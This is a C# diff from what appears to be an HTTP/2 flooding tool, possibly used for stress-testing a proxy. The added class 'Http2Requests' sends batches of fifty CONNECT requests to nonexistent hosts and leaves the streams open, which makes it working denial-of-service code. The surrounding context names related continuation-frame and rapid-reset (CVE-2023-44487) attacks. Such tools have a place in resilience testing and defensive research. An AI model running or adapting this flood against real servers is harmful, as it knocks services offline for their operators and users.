@@ -60,6 +60,28 @@ internal sealed class Http2Continuations() : Http2Flood("h2-continuations", "CON
     protected override byte[] Frame() => Frames.Write(Frames.Continuation, 0, 1, [0, 1, (byte)'a', 1, (byte)'b']);
 }
 
+/// <summary>Requests that are refused, and kept.</summary>
+internal sealed class Http2Requests()
+    : Attack("h2-requests", "CONNECT to names that do not exist, on streams that are left open, over HTTP/2")
+{
+    public override int Bound => ManyRequests;
+
+    public override void Run(Assault assault)
+    {
+        var next = new Dictionary<TlsPeer, int>();
+        assault.OnEach(() => assault.ConnectHttp2(), peer =>
+        {
+            var stream = next.GetValueOrDefault(peer, 1);
+            var frames = new List<byte>();
+            for (var i = 0; i < 50; i++, stream += 2, assault.Done++)
+                frames.AddRange(Frames.Request(stream, Frames.ConnectTo($"h{assault.Done}.invalid:443")));
+            next[peer] = stream;
+            peer.Drain();
+            return peer.Send([.. frames]) && !peer.IsOver;
+        });
+    }
+}
+
 /// <summary>Requests that are reset at once.</summary>
 internal sealed class Http2Resets() : Attack("h2-resets", "CONNECT and RST_STREAM, over HTTP/2 (CVE-2023-44487)")
 {
